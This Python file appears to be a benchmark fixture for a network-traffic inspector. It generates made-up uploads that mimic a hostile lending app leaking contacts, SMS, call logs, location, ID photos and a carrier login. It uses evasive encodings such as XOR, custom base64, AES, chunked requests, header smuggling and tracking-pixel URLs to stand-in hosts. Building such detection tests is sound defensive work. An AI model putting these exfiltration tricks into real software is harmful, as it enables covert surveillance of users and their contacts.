"""Uploads as the developer of a hostile lending app would write them, each by hand.

Names, texts and layouts are made up; a label says what is sent, whether or not it is found.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

import cbor2
import msgpack  # type: ignore[import-untyped]  # has no type information

from inspector.model.exchange import Exchange, Message
from inspector.model.key_material import KeyMaterial
from inspector.traffic.unfold.alphabets import STANDARD
from tests.benchmark.traffic.hostile_parts import (
    b64,
    book,
    dumps,
    inbox,
    log,
    message,
    number,
    parts,
    repeated,
    split,
    xor,
    zipped,
)  # fmt: skip
from tests.benchmark.traffic.images import jpeg
from tests.benchmark.traffic.records import NOW, PACKAGES, mac, millis
from tests.traffic.exchanges import post

Roll = random.Random


@dataclass(frozen=True, slots=True)
class Hostile:
    """One upload with its label; ``material`` are keys that the investigator has."""

    name: str
    expect: str
    make: Callable[[Roll], list[Exchange]]
    allow: tuple[str, ...] = ()
    material: tuple[KeyMaterial, ...] = ()
    count: int = 0


_ALL: list[Hostile] = []
OWN = "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm9876543210-_"
XOR_KEY = b"Xk9#pL"
PHRASE = b"open sesame for tests"


def _case(
    name: str,
    expect: str,
    *allow: str,
    material: tuple[KeyMaterial, ...] = (),
    count: int = 0,
) -> Callable[[Callable[[Roll], object]], Callable[[Roll], object]]:
    def keep(make: Callable[[Roll], object]) -> Callable[[Roll], object]:
        def exchanges(roll: Roll) -> list[Exchange]:
            made = make(roll)
            several = made if isinstance(made, list) and isinstance(made[0], Exchange) else None
            return several or [made if isinstance(made, Exchange) else post(made)]

        _ALL.append(Hostile(name, expect, exchanges, allow, material, count))
        return make

    return keep


@_case("names and lists of numbers five levels deep, Amharic", "contacts", count=24)
def _deep(roll: Roll) -> object:
    people = [{"thistle": {"ember": n, "velvet": {"w": [{"q": p, "k": "m"}]}}}
              for n, p in book(roll, "am", 24)]  # fmt: skip
    return {"sordid": {"rapacie": [{"z": 1}, {"cargo": {"list": people}}]}}


@_case("parallel lists below different keys, Burmese", "contacts")
def _parallel(roll: Roll) -> object:
    people = book(roll, "my", 18)
    return {"a": {"u": [n for n, _ in people]}, "b": {"v": [p for _, p in people]}}


@_case("each field of a message in base64, Sinhala", "sms")
def _fields(roll: Roll) -> object:
    return {
        "d": [{"x": b64(s), "y": b64(str(t)), "z": b64(m)} for s, t, m in inbox(roll, "si", 16)]
    }


@_case("protobuf in base64 in a form in gzip, Tamil", "contacts")
def _form(roll: Roll) -> object:
    body = repeated([message(n, p) for n, p in book(roll, "ta", 22)])
    return gzip.compress(f"v=3&bramble={quote(b64(body), safe='')}".encode(), mtime=0)


@_case(
    "XOR with a constant key in base64", "contacts",
    material=(KeyMaterial("Seal.mix", XOR_KEY),),
)  # fmt: skip
def _xor(roll: Roll) -> object:
    people = [{"n": n, "p": p} for n, p in book(roll, "id", 30)]
    return {"blob": b64(xor(dumps(people).encode(), XOR_KEY))}


@_case(
    "base64 with the app's own alphabet, Urdu",
    "contacts",
    material=(KeyMaterial("Codec.table", OWN.encode(), "alphabet"),),
)
def _own_alphabet(roll: Roll) -> object:
    rows = b64(dumps([{"n": n, "p": p} for n, p in book(roll, "ur", 26)]))
    return {"blob": rows.translate(str.maketrans(STANDARD, OWN))}


@_case("base64 with small and capital letters exchanged, Thai", "contacts")
def _swapped(roll: Roll) -> object:
    people = [[n, p] for n, p in book(roll, "th", 20)]
    return {"blob": b64(dumps(people)).swapcase()}


@_case("base64 written backwards", "contacts")
def _backwards(roll: Roll) -> object:
    return {"blob": b64(dumps([{"n": n, "p": p} for n, p in book(roll, "id", 20)]))[::-1]}


@_case("base32", "contacts")
def _base32(roll: Roll) -> object:
    raw = dumps([{"n": n, "p": p} for n, p in book(roll, "vi", 20)]).encode()
    return {"blob": base64.b32encode(raw).decode()}


@_case("base64 cut into three requests, Vietnamese", "contacts")
def _cut(roll: Roll) -> object:
    whole = b64(dumps([{"n": n, "p": p} for n, p in book(roll, "vi", 60)]))
    return [post({"i": i, "of": 3, "d": piece}, index=i)
            for i, piece in enumerate(split_text(whole, 3))]  # fmt: skip


@_case("JSON cut into four requests", "sms")
def _cut_json(roll: Roll) -> object:
    whole = dumps([{"a": s, "b": t, "c": m} for s, t, m in inbox(roll, "id", 60)])
    return [post({"seq": i, "chunk": piece}, index=i)
            for i, piece in enumerate(split_text(whole, 4))]  # fmt: skip


@_case("variables of GraphQL, Hindi", "contacts", count=15)
def _graphql(roll: Roll) -> object:
    people = [{"label": n, "value": p} for n, p in book(roll, "hi", 15)]
    return {"operationName": "Sync", "query": "mutation Sync($i: In!) { sync(i: $i) { ok } }",
            "variables": {"i": {"d": people, "v": 4}}}  # fmt: skip


@_case("a WebSocket message for each contact, Urdu", "contacts")
def _frames(roll: Roll) -> object:
    frames = [Message("request", dumps({"t": "c", "k": n, "w": p}).encode())
              for n, p in book(roll, "ur", 40)]  # fmt: skip
    return post(b"", messages=frames)


@_case("a WebSocket message in MessagePack", "call_log", "contacts", count=30)
def _packed(roll: Roll) -> object:
    rows = [{"a": n, "b": t, "c": s, "d": k} for n, t, s, k in log(roll, "id", 30)]
    return post(b"", messages=[Message("request", msgpack.packb({"op": 7, "rows": rows}))])


@_case("gzip of JSON as a part beside others", "contacts")
def _part(roll: Roll) -> object:
    rows = dumps([{"n": n, "p": p} for n, p in book(roll, "ta", 14)]).encode()
    body = parts(
        ("meta", "Content-Type: application/json\r\n", b'{"v":1}'),
        (
            "f",
            "Content-Type: image/png\r\nContent-Encoding: gzip\r\n",
            gzip.compress(rows, mtime=0),
        ),
    )
    return post(body, kind="multipart/form-data; boundary=a1B2c3D4")


@_case("CSV in ZIP in base64", "call_log", "contacts")
def _csv(roll: Roll) -> object:
    rows = "\n".join(",".join(map(str, row)) for row in log(roll, "id", 40))
    return {"archive": b64(zipped({"c.csv": rows}))}


@_case("a vCard file", "contacts")
def _vcard(roll: Roll) -> object:
    cards = "".join(
        f"BEGIN:VCARD\r\nVERSION:2.1\r\nFN:{n}\r\nTEL;CELL:{p}\r\nEND:VCARD\r\n"
        for n, p in book(roll, "id", 25)
    )
    return {"backup": cards}


@_case("the file of an SMS backup app", "sms")
def _backup(roll: Roll) -> object:
    rows = "".join(f'<sms protocol="0" address="{s}" date="{t}" type="1" body="{m}" />'
                   for s, t, m in inbox(roll, "si", 14))  # fmt: skip
    return f"<?xml version='1.0' encoding='UTF-8'?><smses count=\"14\">{rows}</smses>"


@_case("calls as short attributes of XML", "call_log", "contacts")
def _calls_xml(roll: Roll) -> object:
    return "<r>" + "".join(f'<c a="{n}" b="{t}" c="{s}" d="{k}"/>'
                           for n, t, s, k in log(roll, "id", 25)) + "</r>"  # fmt: skip


@_case("packages with versions in one text", "installed_apps")
def _apps(roll: Roll) -> object:
    return {"x9": ",".join(f"{p}:{roll.randrange(1, 30)}.{i}" for i, p in enumerate(PACKAGES))}


@_case("what pm list packages prints", "installed_apps")
def _pm(roll: Roll) -> object:
    return {"out": "\n".join(f"package:/data/app/~~q{i}==/base.apk={p}"
                             for i, p in enumerate(PACKAGES))}  # fmt: skip


@_case("a form with numbered brackets", "contacts")
def _brackets(roll: Roll) -> object:
    return "&".join(f"c[{i}][n]={quote(n)}&c[{i}][p]={quote(p)}"
                    for i, (n, p) in enumerate(book(roll, "ta", 20)))  # fmt: skip


@_case("keys with numbers between dots", "contacts")
def _dotted(roll: Roll) -> object:
    rows = enumerate(book(roll, "id", 20))
    return {key: value for i, (n, p) in rows for key, value in
            ((f"book.{i}.who", n), (f"book.{i}.tel", p))}  # fmt: skip


@_case("an array of texts that are JSON", "sms", count=18)
def _texts(roll: Roll) -> object:
    return {"arr": [dumps({"a": s, "b": t, "c": m}) for s, t, m in inbox(roll, "ta", 18)]}


@_case("numbers as keys", "contacts")
def _map(roll: Roll) -> object:
    return {"m": {p: {"t": n, "c": roll.randrange(9)} for n, p in book(roll, "my", 20)}}


@_case("name and number in one text", "contacts")
def _joined(roll: Roll) -> object:
    return {"l": [f"{n} <{p}>" for n, p in book(roll, "id", 22)]}


@_case("base64 in a header", "contacts")
def _header(roll: Roll) -> object:
    rows = dumps([[n, p] for n, p in book(roll, "vi", 12)])
    return post({"ok": 1}, headers=[("X-Trace-Meta", b64(rows))])


@_case("gzip in URL-safe base64 in the query", "contacts")
def _query(roll: Roll) -> object:
    rows = gzip.compress(dumps([[n, p] for n, p in book(roll, "hi", 16)]).encode(), mtime=0)
    packed = base64.urlsafe_b64encode(rows).decode().rstrip("=")
    return post(b"", url=f"https://img.lender.example/p.gif?e={packed}&r=1")


@_case("CBOR in raw deflate in base64", "contacts")
def _deflate(roll: Roll) -> object:
    machine = zlib.compressobj(wbits=-15)
    raw = cbor2.dumps([{"n": n, "p": p} for n, p in book(roll, "ta", 20)])
    return {"z": b64(machine.compress(raw) + machine.flush())}


@_case("JSON in UTF-16", "contacts")
def _wide(roll: Roll) -> object:
    return dumps([{"n": n, "p": p} for n, p in book(roll, "am", 15)]).encode("utf-16")


@_case("whole numbers of degrees along the way", "location")
def _track(roll: Roll) -> object:
    return {"t": [{"latitudeE7": -69147650 + i * 900, "longitudeE7": 1075840570 - i * 700,
                   "timestampMs": str(millis(NOW) + i * 60_000)} for i in range(12)]}  # fmt: skip


@_case("an identity card in base64 in SOAP", "documents", "photos")
def _soap(roll: Roll) -> object:
    image = b64(jpeg(640, 480, seed=3))
    return f"<e:Envelope xmlns:e='urn:e'><e:Body><k><i>{image}</i></k></e:Body></e:Envelope>"


@_case("JSON in CDATA in SOAP, Amharic", "contacts")
def _cdata(roll: Roll) -> object:
    rows = dumps([{"n": n, "p": p} for n, p in book(roll, "am", 15)])
    return f"<e:Envelope xmlns:e='urn:e'><e:Body><![CDATA[{rows}]]></e:Body></e:Envelope>"


@_case("apps in a gRPC frame", "installed_apps")
def _grpc(roll: Roll) -> object:
    rows = [message(p, p.rpartition(".")[2], i) for i, p in enumerate(PACKAGES)]
    body = repeated(rows, 5)
    return post(b"\0" + len(body).to_bytes(4) + body, kind="application/grpc")


@_case("calls with a Spanish header and tabs", "call_log", "contacts")
def _spanish(roll: Roll) -> object:
    rows = ["\t".join(map(str, row)) for row in log(roll, "vi", 30)]
    return {"registro": "\n".join(("número\tfecha\tduración\ttipo", *rows))}


@_case("access points in one text", "network_ids.scan", "network_ids")
def _wifi(roll: Roll) -> object:
    return {"w": ";".join(f"Rumah{i},{mac(roll)},{-40 - i * 5}" for i in range(6))}


@_case("three towers in one text", "location.cell")
def _towers(roll: Roll) -> object:
    return {"c": ";".join(f"510,10,4021,{roll.randrange(10**6, 10**8)},{-70 - i}"
                          for i in range(3))}  # fmt: skip


@_case("accounts as type and address in one text", "accounts", "identity")
def _accounts(roll: Roll) -> object:
    kinds = ("com.google", "com.whatsapp", "com.facebook.auth.login", "org.telegram.messenger")
    return {"acc": [f"{kind}:nobody{i}@mail.example" for i, kind in enumerate(kinds)]}


@_case(
    "AES under PBKDF2 with the salt in front", "contacts",
    material=(KeyMaterial("Vault.open", PHRASE, "password"),),
)  # fmt: skip
def _pbkdf2(roll: Roll) -> object:
    from tests.traffic.test_opening import cbc

    salt, iv = roll.randbytes(16), roll.randbytes(16)
    rows = dumps([{"n": n, "p": p} for n, p in book(roll, "id", 25)]).encode()
    key = hashlib.pbkdf2_hmac("sha256", PHRASE, salt, 10_000, 32)
    return {"q": b64(salt + iv + cbc(rows, key, iv))}


@_case("the login of a carrier in JSON in a form", "credentials", "carrier_records", "identity")
def _login(roll: Roll) -> object:
    inner = dumps({"account": number(roll, "id", "trunk"), "pwd": "593028", "target": "telkomsel"})
    return post(f"k=1&payload={quote(inner)}", url="https://crawl.lender.example/operator/login")


@_case("a property of an analytics event", "contacts")
def _event(roll: Roll) -> object:
    rows = gzip.compress(dumps([{"n": n, "p": p} for n, p in book(roll, "si", 25)]).encode())
    return {"events": [{"e": "app_open", "ts": millis(NOW), "props": {"s": b64(rows)}},
                       {"e": "scroll", "ts": millis(NOW) + 5, "props": {"s": "x"}}]}  # fmt: skip


@_case("the gallery as JSON lines in zlib", "photos", "location")
def _gallery(roll: Roll) -> object:
    folder = "/storage/emulated/0/DCIM/Camera"
    rows = [json.dumps({"f": f"{folder}/IMG_20260{i % 6 + 1}01_1.jpg",
                        "t": millis(NOW) - i * 10**7}) for i in range(20)]  # fmt: skip
    return zlib.compress("\n".join(rows).encode())


def split_text(text: str, pieces: int) -> list[str]:
    """Cut a text."""
    return [piece.decode("utf-8", "surrogateescape") for piece in split(text.encode(), pieces)]


HOSTILE = tuple(_ALL)
